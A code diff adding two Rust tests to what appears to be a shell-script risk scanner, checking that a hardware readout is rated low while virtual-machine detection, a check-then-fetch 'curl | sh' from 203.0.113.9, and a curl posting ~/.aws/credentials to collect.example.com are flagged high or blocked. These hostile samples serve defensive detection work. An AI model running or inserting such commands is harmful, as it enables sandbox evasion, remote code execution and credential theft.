@@ -252,3 +252,33 @@ fn a_listing_narrowed_to_the_scripts_own_children_is_not_others_processes() {
         at_least(others, Level::Blocked);
     }
 }
+
+#[test]
+fn the_machines_model_read_to_be_printed_is_not_a_vm_check() {
+    // neofetch: the "Host:" line, then the code it runs for the rest of its report.
+    let printed = "model=$(< /sys/devices/virtual/dmi/id/product_name)\nmodel+=\" $(< /sys/devices/virtual/dmi/id/product_version)\"\ncase $model in \"Standard PC\"*) model=\"KVM/QEMU (${model})\" ;; esac\nprintf 'Host: %s\\n' \"$model\"\ngpu=$(lspci -mm | grep -i vga)\ncase $gpu in *VirtualBox*) gpu=\"VirtualBox Graphics Adapter\" ;; esac\nsh -c 'uname -r'\n";
+    below_high(printed);
+    // Compared with a hypervisor's name, it is the check; beside running code, evasion.
+    for check in [
+        "model=$(< /sys/devices/virtual/dmi/id/product_name)\ncase $model in *VirtualBox*) exit 0 ;; esac\n",
+        "[[ \"$(cat /sys/class/dmi/id/sys_vendor)\" == *QEMU* ]] && exit 0\n",
+        "v=$(cat /sys/class/dmi/id/product_name)\ngrep -qi vmware <<< \"$v\" && exit 0\n",
+        "grep -qiE 'virtualbox|vmware' /sys/class/dmi/id/product_name && exit 0\n",
+    ] {
+        at_least(check, Level::High);
+    }
+    at_least(
+        "p=$(cat /sys/class/dmi/id/product_name)\nif [ \"$p\" != VirtualBox ]; then curl -fsSL https://203.0.113.9/s | sh; fi\n",
+        Level::Blocked,
+    );
+}
+
+#[test]
+fn a_substitution_of_a_bare_input_redirection_is_the_files_content() {
+    // `$(< file)` is bash's cat: what it reads flows on, as `$(cat file)` does.
+    below_high("version=$(< VERSION)\necho \"release $version\"\n");
+    at_least(
+        "curl -s -d \"$(< ~/.aws/credentials)\" https://collect.example.com/u\n",
+        Level::Blocked,
+    );
+}
